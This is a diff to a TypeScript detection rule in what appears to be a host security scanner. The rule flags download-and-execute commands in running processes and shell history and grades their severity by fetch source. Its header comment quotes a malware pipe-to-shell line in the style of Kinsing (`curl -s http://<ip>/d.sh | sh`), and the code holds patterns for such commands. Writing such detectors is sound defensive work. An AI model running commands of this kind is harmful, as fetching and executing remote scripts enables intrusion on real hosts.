@@ -1,11 +1,32 @@
 // Download-and-execute in running command lines or shell history (curl | sh, wget -O x && chmod +x x).
+//
+// How much it says depends on where the code came from. Intruders fetch over plain HTTP from an address, a paste or
+// file-drop site, a dynamic-DNS name, or with certificate checks off (Kinsing's `curl -s http://<ip>/d.sh | sh`,
+// TeamTNT's, 8220's, WatchDog's pastebin): high. A script fetched over verified HTTPS from a named host outside the
+// site is how vendors document their installers, the known ones of which are a baseline: low, for someone to
+// confirm what was installed. From a host inside the site (an artifact server's bootstrap): medium.
 import { vendorInstaller } from "../baselines/index.js";
+import { isIpv4 } from "../net.js";
+import { dynamicDnsHost, stagingHost } from "../intel/staging-hosts.js";
 import { processLabel, rowsOf, str } from "../rows.js";
+import type { Severity } from "../types.js";
 import { defineDetection, type DetectionHit } from "./detection.js";
-import { downloadThenRun, PIPE_TO_SHELL } from "./patterns.js";
+import { downloadThenRun, outsideHost, PIPE_TO_SHELL, urlSources } from "./patterns.js";
 
 function matches(command: string): boolean {
   return PIPE_TO_SHELL.test(command) || downloadThenRun(command);
+}
+
+const INSECURE = /\s(?:-k|--insecure|--no-check-certificate)\b/;
+
+/** The hit's severity and the words that say why, from where the command fetches (see the header). */
+export function fetchedFrom(command: string): { severity: Severity; why: string } | undefined {
+  const sources = urlSources(command);
+  if (sources.length === 0 || INSECURE.test(command)) return undefined;
+  if (sources.every((s) => !outsideHost(s.host))) return { severity: "medium", why: "from a host inside the site" };
+  const named = (h: string): boolean => !isIpv4(h) && !h.includes(":") && stagingHost(h) === undefined && !dynamicDnsHost(h);
+  if (sources.every((s) => s.scheme === "https" && named(s.host))) return { severity: "low", why: `over HTTPS from ${sources[0]?.host ?? "a named host"} (an installer? confirm what it put on the host)` };
+  return undefined;
 }
 
 export const downloadExecute = defineDetection({
@@ -34,10 +55,12 @@ export const downloadExecute = defineDetection({
         hits.push({ summary: `${processLabel(row, pid)} (pid ${pid}) runs a vendor's documented installer (${vendor.source}): ${cmdline.slice(0, 120)}`, evidence: [{ table: "processes", row }], entity: `pid:${pid}`, kept_by: vendor.baseline });
         continue;
       }
+      const from = fetchedFrom(cmdline);
       hits.push({
-        summary: `${processLabel(row, pid)} (pid ${pid}) is running a download-and-execute command: ${cmdline.slice(0, 120)}`,
+        summary: `${processLabel(row, pid)} (pid ${pid}) is running a download-and-execute command${from ? ` ${from.why}` : ""}: ${cmdline.slice(0, 120)}`,
         evidence: [{ table: "processes", row }],
         entity: `pid:${pid}`,
+        ...(from ? { severity: from.severity } : {}),
       });
     }
     for (const row of rowsOf(host, "shell_history")) {
@@ -48,10 +71,12 @@ export const downloadExecute = defineDetection({
         hits.push({ summary: `Shell history (uid ${str(row, "uid") || "?"}) runs a vendor's documented installer (${vendor.source}): ${command.slice(0, 120)}`, evidence: [{ table: "shell_history", row }], entity: `history:${str(row, "uid")}`, kept_by: vendor.baseline });
         continue;
       }
+      const from = fetchedFrom(command);
       hits.push({
-        summary: `Shell history (uid ${str(row, "uid") || "?"}) shows a download-and-execute: ${command.slice(0, 120)}`,
+        summary: `Shell history (uid ${str(row, "uid") || "?"}) shows a download-and-execute${from ? ` ${from.why}` : ""}: ${command.slice(0, 120)}`,
         evidence: [{ table: "shell_history", row }],
         entity: `history:${str(row, "uid")}`,
+        ...(from ? { severity: from.severity } : {}),
       });
     }
     return hits;
